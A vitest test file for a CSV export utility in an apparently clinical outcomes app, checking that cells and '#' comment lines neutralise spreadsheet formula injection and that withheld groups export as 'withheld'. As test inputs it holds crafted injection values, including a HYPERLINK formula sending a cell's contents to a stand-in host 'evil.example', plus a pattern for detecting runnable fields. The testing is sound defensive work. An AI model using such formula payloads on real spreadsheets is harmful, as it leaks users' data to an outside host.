import { describe, expect, test } from 'vitest';
import { csvCell, csvComment, parseCsv, toCsv } from '../../app/utils/csv';
import { outcomeColumns } from '../../app/utils/figure-columns';
import type { PageOutcomeRow } from '../../db/queries/get-outcomes';
import { definedFigures } from '../../db/queries/outcome-query';

const proportion = (count: number, denominator: number, low: number, high: number) => ({
  count,
  denominator,
  rate: count / denominator,
  ci_low: low,
  ci_high: high,
});

/** IPT at Online in clinic-400 (../shared/vectors), figures as R computed them. */
const shown: PageOutcomeRow = {
  group: { modality: 'IPT' },
  suppressed: false,
  episodes: 28,
  finished: 21,
  outcome_cohort: 16,
  paired_completeness: 16 / 21,
  mean_sessions: 13,
  median_sessions: 13,
  mean_baseline: 15.25,
  mean_change: { value: -4.5625, ci_low: -7.75948929132378, ci_high: -1.36551070867622 },
  effect_size_d: 1.19406082340892,
  recovery: proportion(8, 14, 0.325906445796507, 0.786192010955259),
  reliable_recovery: proportion(7, 14, 0.267992024524136, 0.732007975475864),
  reliable_improvement: proportion(10, 16, 0.386410405455027, 0.815187674411364),
  reliable_deterioration: proportion(2, 16, 0.0349774877432405, 0.360228272657587),
  response: proportion(6, 14, 0.213807989044741, 0.674093554203492),
  remission: null,
  dropout: proportion(3, 22, 0.0474900371405525, 0.333349871665717),
  no_figure: {},
};
const withheld: PageOutcomeRow = {
  ...shown,
  group: { modality: 'DIT' },
  suppressed: true,
  episodes: null,
  finished: null,
  outcome_cohort: null,
  paired_completeness: null,
  mean_sessions: null,
  median_sessions: null,
  mean_baseline: null,
  mean_change: null,
  effect_size_d: null,
  recovery: null,
  reliable_recovery: null,
  reliable_improvement: null,
  reliable_deterioration: null,
  response: null,
  remission: null,
  dropout: null,
};

describe('CSV cells', () => {
  test('formulas are neutralised, negative numbers stay numbers', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('+1+1')).toBe(`'+1+1`);
    expect(csvCell('@SUM(A1)')).toBe(`'@SUM(A1)`);
    expect(csvCell('-cmd')).toBe(`'-cmd`);
    expect(csvCell('-4.6')).toBe('-4.6');
    expect(csvCell('12')).toBe('12');
  });

  test('commas, quotes, line breaks and a leading # are quoted', () => {
    expect(csvCell('Lakeview (Belmont, Broadway)')).toBe('"Lakeview (Belmont, Broadway)"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('# not a comment')).toBe('"# not a comment"');
  });
});

/** The fields a spreadsheet makes of a "#" line: it splits it at every comma like any other line. */
const spreadsheetFields = (line: string) => line.split(',');
/** A field a spreadsheet would run, or read as a quoted field that could hold a formula. */
const runnable = (field: string) => /^\s*[=+\-@"]/.test(field) && !/^\s*-?\d+(\.\d+)?\s*$/.test(field);

describe('the "#" lines of a file, which take their values from the address', () => {
  test('a value written into a link cannot put a formula in a field of a # line', () => {
    // /quality/episodes.csv?metric=recovery&clinician=x,=HYPERLINK("http://evil.example/"%26A9)
    const line = csvComment(
      'Behind the figure: Recovery, the episodes counted, clinician x,=HYPERLINK("http://evil.example/"&A9)',
    );
    expect(line).toBe(
      `# Behind the figure: Recovery, the episodes counted, clinician x,'=HYPERLINK("http://evil.example/"&A9)`,
    );
    const crafted = [
      'Location: Evanston, =1+1',
      'Location: a,+SUM(1),@A1,-cmd',
      'Location: a,\t=1+1',
      'Who: x,"=1+1"',
      'Location: a,\r\n=1+1',
    ];
    for (const text of crafted) {
      const fields = spreadsheetFields(csvComment(text));
      expect(fields.filter(runnable), text).toEqual([]);
      expect(csvComment(text).startsWith('# ')).toBe(true);
      expect(csvComment(text)).not.toMatch(/[\r\n]/);
    }
  });

  test('ordinary values read as before: names with commas, negative numbers', () => {
    expect(csvComment('Location: Evanston, Online')).toBe('# Location: Evanston, Online');
    expect(csvComment('Mean change: -4.6, -1.2')).toBe('# Mean change: -4.6, -1.2');
  });
});

describe('a figure table as a CSV file', () => {
  const columns = outcomeColumns(['modality'], definedFigures('PHQ-9'));
  const text = toCsv({
    title: 'Overview',
    filters: [
      ['Instrument', 'PHQ-9 (depression)'],
      ['Location', 'Evanston, Online'],
    ],
    generatedAt: new Date('2026-11-26T01:02:03Z'),
    columns: columns.filter((column) =>
      ['group.modality', 'outcome_cohort', 'recovery', 'remission', 'mean_change'].includes(column.id),
    ),
    rows: [shown, withheld],
  });
  const file = parseCsv(text);

  test('starts with comment lines naming the page, every filter and the time', () => {
    expect(file.comments).toEqual([
      'Overview',
      'Instrument: PHQ-9 (depression)',
      'Location: Evanston, Online',
      'Downloaded: 2026-11-26 01:02 UTC',
    ]);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  test('a rate writes its percentage, interval and counts, rounded as the table shows them', () => {
    expect(file.header).toEqual([
      'modality',
      'outcome_cohort',
      'recovery_pct',
      'recovery_ci_low_pct',
      'recovery_ci_high_pct',
      'recovery_count',
      'recovery_denominator',
      'remission_pct',
      'remission_ci_low_pct',
      'remission_ci_high_pct',
      'remission_count',
      'remission_denominator',
      'mean_change',
      'mean_change_ci_low',
      'mean_change_ci_high',
    ]);
    // 8/14 = 57.142...%; the interval 32.59-78.62%; mean change -4.5625 with its t interval.
    expect(file.rows[0]).toEqual([
      'IPT',
      '16',
      '57.1',
      '32.6',
      '78.6',
      '8',
      '14',
      ...Array(5).fill('withheld'),
      '-4.6',
      '-7.8',
      '-1.4',
    ]);
  });

  test('a withheld group is "withheld" in every figure, never 0 or blank', () => {
    const [label, ...figures] = file.rows[1]!;
    expect(label).toBe('DIT');
    expect(figures).toHaveLength(14);
    expect(new Set(figures)).toEqual(new Set(['withheld']));
  });
});
